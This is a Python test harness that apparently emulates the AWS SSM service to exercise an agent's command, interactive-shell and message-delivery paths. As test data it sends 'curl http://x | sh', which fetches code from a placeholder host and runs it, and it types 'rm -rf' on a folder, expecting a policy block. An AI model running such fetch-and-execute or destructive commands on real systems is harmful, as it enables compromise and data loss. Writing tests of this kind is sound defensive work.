"""The service: its control channel, its data channel with a user who types, and the older path."""

import os, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from websockets.sync.server import serve

TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
TLS.load_cert_chain(FOLDER / (HOST + ".pem"))
UNKNOWN = encode("message_of_tomorrow", b"\0\xff")


def job(command):
    document = {"CommandId": "c-1", "DocumentName": "AWS-RunShellScript", "Parameters": {"commands": [command]},
                "DocumentContent": {"schemaVersion": "1.2"}}
    return json.dumps(document)


def control(socket):
    opening = json.loads(socket.recv())
    assert opening["TokenValue"] == "token-of-control", opening
    for command in ["echo hi", "curl http://x | sh"]:
        socket.send(encode("agent_job", {"Content": job(command), "JobId": "aws.ssm.c-1.i-0lab",
                                         "Topic": "aws.ssm.sendCommand", "SchemaVersion": 1}))
    asked = {"DocumentName": "SSM-SessionManagerRunShell", "SessionId": "ann-0a1b", "SessionOwner": "arn:aws:iam::1:user/ann"}
    socket.send(encode("interactive_shell", {"Content": json.dumps(asked), "TaskId": "ann-0a1b", "Topic": "t", "SchemaVersion": 1}))
    socket.send(UNKNOWN)
    heard = []
    while len(heard) < 4:
        message = Message(socket.recv())
        heard.append([message.kind, message.json()])
        if message.kind == "agent_job_reply":
            socket.send(encode("agent_job_reply_ack", {"jobId": "aws.ssm.c-1.i-0lab", "acknowledgedMessageId": message.name}))
    (FOLDER / "service.json").write_text(json.dumps(heard))
    socket.send(encode("channel_closed", {"MessageType": "channel_closed", "SessionId": "gone"}))
    socket.close()


def data(socket, encrypted):
    opening = json.loads(socket.recv())
    assert opening["TokenValue"] == "token-of-data", opening
    stream, screen = Stream(socket, "input_stream_data"), b""

    def wait(text):
        nonlocal screen
        while text not in screen:
            message = stream.take(socket.recv(timeout=20))
            if message and message.payload_type == REQUEST:
                stream.send({"ClientVersion": "1.2.3", "ProcessedClientActions": [], "Errors": None}, RESPONSE)
            elif message and message.payload_type == COMPLETE:
                screen += b"COMPLETE"
            elif message and message.payload_type == OUTPUT:
                screen += message.payload
        screen = screen.split(text, 1)[1]

    wait(b"COMPLETE")
    if encrypted:
        stream.send(os.urandom(64))
        wait(b"CIPHERTEXT")
    else:
        stream.send({"cols": 100, "rows": 30}, SIZE)
        wait(b"$ ")
        for key in "echo 'h\u00e9llo' $((6*7))\r":
            stream.send(key.encode())
        wait("h\u00e9llo 42".encode())
        wait(b"$ ")
        stream.send({"cols": 90, "rows": 25}, SIZE)
        for key in f"rm -rf {FOLDER}/precious\r":
            stream.send(key.encode())
        # What the agent had once it has again, and that must be the same.
        socket.send(stream.unacknowledged.get(stream.sent - 1, encode("start_publication", b"")))
        wait(b"# blocked by policy\r\n")
        wait(b"$ ")
        stream.send(b"exit\r")
        wait(b"exit")
    while stream.unacknowledged:
        stream.take(socket.recv(timeout=20))
    socket.send(encode("channel_closed", {"MessageType": "channel_closed", "SessionId": "s"}))
    socket.close()


def handle(socket):
    kind, name = socket.request.path.split("?")[0].split("/")[2:]
    control(socket) if kind == "control-channel" else data(socket, "secret" in name)


class Delivery(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        messages = []
        if self.headers["X-Amz-Target"].endswith(".GetMessages"):
            for command in ["echo hi", "curl http://x | sh"]:
                payload = job(command)
                messages.append({"CreatedDate": "d", "Destination": "i-0lab", "MessageId": "aws.ssm.c-1.i-0lab",
                                 "Payload": payload, "PayloadDigest": hashlib.sha256(payload.encode()).hexdigest(),
                                 "Topic": "aws.ssm.sendCommand.x"})
        body = json.dumps({"Destination": "i-0lab", "Messages": messages, "MessagesRequestId": "r"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


delivery = ThreadingHTTPServer(("0.0.0.0", 9444), Delivery)
delivery.socket = TLS.wrap_socket(delivery.socket, server_side=True)
threading.Thread(target=delivery.serve_forever, daemon=True).start()
with serve(handle, "0.0.0.0", 9443, ssl=TLS, compression=None) as server:
    server.serve_forever()
